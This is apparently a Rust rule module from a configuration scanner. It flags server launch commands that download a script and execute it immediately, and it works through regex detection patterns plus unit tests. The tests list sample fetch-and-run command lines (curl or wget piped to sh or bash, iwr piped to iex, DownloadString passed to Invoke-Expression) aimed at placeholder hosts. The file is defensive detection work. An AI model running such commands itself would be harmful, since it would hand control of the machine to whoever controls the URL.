//! `remote-script-execution`: the launch downloads a script and runs it at once
//! (`curl … | sh`, `bash <(curl …)`, `iwr … | iex`).

use super::{describe_place, ConfigRule, RuleContext};
use crate::catalog::Code;
use crate::finding::Finding;
use crate::scan::config_file::{ServerEntry, Str};
use crate::scan::entry_command;
use regex::Regex;
use std::sync::OnceLock;

pub struct RemoteScriptExecution;

impl ConfigRule for RemoteScriptExecution {
    fn code(&self) -> Code {
        Code::RemoteScriptExecution
    }

    fn check_server(&self, cx: &RuleContext<'_>, server: &ServerEntry, out: &mut Vec<Finding>) {
        // The command string a shell runs, located at its first part.
        let mut scripts: Vec<(String, &Str)> = Vec::new();
        if let Some(w) = entry_command::shell_wrapper(server) {
            if let Some(first) = w.script.first() {
                let text: Vec<&str> = w.script.iter().map(|x| x.text.as_str()).collect();
                scripts.push((text.join(" "), first.src));
            }
        }
        // A whole command line written into `command` is run through a shell by some clients.
        if let Some(c) = server.command.as_ref().filter(|c| c.value.contains(' ')) {
            if scripts.iter().all(|(_, src)| src.pointer != c.pointer) {
                scripts.push((c.value.clone(), c));
            }
        }
        for (text, s) in scripts {
            if let Some(how) = downloads_and_runs(&text) {
                out.push(
                    cx.finding(
                        Code::RemoteScriptExecution,
                        s,
                        format!(
                            "Server {:?}: {} downloads code and runs it ({how}) on every start; whoever controls that URL controls this machine.",
                            crate::finding::excerpt(&server.name, 60),
                            describe_place(server, s)
                        ),
                    )
                    .evidence(&crate::scan::urls::mask_all(&text)),
                );
            }
        }
    }
}

fn patterns() -> &'static [(&'static str, Regex)] {
    static SET: OnceLock<Vec<(&'static str, Regex)>> = OnceLock::new();
    SET.get_or_init(|| {
        [
            (
                "a download piped into an interpreter",
                r"(?i)\b(?:curl|wget|fetch|iwr|irm|invoke-webrequest|invoke-restmethod)\b[^|;&]*\|\s*(?:sudo\s+(?:-\S+\s+)*)?(?:env\s+)?(?:\S*/)?(?:sh|bash|zsh|dash|ksh|fish|python[0-9.]*|node|perl|ruby|php|iex|invoke-expression|pwsh|powershell)\b",
            ),
            ("process substitution of a download", r"(?i)<\(\s*(?:curl|wget)\b"),
            (
                "a download run through command substitution",
                r#"(?i)(?:\b(?:sh|bash|zsh|eval|source|exec|python[0-9.]*|node)\s+(?:-c\s+)?|(?:^|[;&|]\s*)\.\s+)["']?\$\(\s*(?:curl|wget)\b"#,
            ),
            (
                "a download passed to Invoke-Expression",
                r"(?i)\b(?:iex|invoke-expression)\b[\s(]*.*\b(?:iwr|irm|invoke-webrequest|invoke-restmethod|downloadstring|net\.webclient|curl|wget)\b",
            ),
        ]
        .into_iter()
        .filter_map(|(what, p)| Regex::new(p).ok().map(|r| (what, r)))
        .collect()
    })
}

/// How a script downloads code and runs it, if it does.
pub fn downloads_and_runs(script: &str) -> Option<&'static str> {
    let script: String = script.chars().take(8192).collect();
    patterns()
        .iter()
        .find(|(_, re)| re.is_match(&script))
        .map(|(what, _)| *what)
}

#[cfg(test)]
mod tests {
    use super::downloads_and_runs;

    #[test]
    fn downloads_that_run() {
        for s in [
            "curl -fsSL https://x.sh/install | sh",
            "wget -qO- https://x/i.sh | sudo -E bash",
            "bash <(curl -s https://x/i.sh)",
            "sh -c \"$(curl -fsSL https://x/i.sh)\"",
            "iwr https://x/i.ps1 | iex",
            "iex (New-Object Net.WebClient).DownloadString('https://x/i.ps1')",
            "curl https://x/s.py | python3 -",
        ] {
            assert!(downloads_and_runs(s).is_some(), "{s}");
        }
        for s in [
            "curl -fsS http://localhost:8080/health | jq .",
            "curl -o /tmp/x.tgz https://x/x.tgz && tar xzf /tmp/x.tgz",
            "node server.js | tee log.txt",
            "echo shell | grep sh",
        ] {
            assert!(downloads_and_runs(s).is_none(), "{s}");
        }
    }
}
